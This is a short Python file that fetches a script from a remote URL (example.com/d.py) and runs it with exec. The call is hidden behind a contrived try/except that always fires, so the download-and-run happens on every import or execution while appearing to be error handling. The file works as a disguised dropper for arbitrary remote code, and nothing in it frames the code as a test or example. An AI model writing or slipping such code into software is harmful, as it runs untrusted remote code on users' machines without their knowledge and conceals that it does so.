import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


try:
    next(iter(()))
except StopIteration:
    _go()
